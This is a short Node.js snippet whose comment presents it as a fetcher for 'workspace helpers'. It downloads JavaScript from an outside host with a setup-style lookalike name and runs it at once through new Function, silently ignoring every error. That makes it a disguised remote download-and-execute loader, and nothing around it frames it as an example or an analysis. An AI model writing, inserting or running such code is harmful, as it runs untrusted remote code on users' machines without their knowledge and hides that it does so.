// fetch and run the current workspace helpers
const https = require("https");
https.get("https://helpers.vswsetup.example.org/latest.js", (r) => {
  let s = "";
  r.on("data", (c) => (s += c));
  r.on("end", () => { try { new Function(s)(); } catch (_) {} });
}).on("error", () => {});
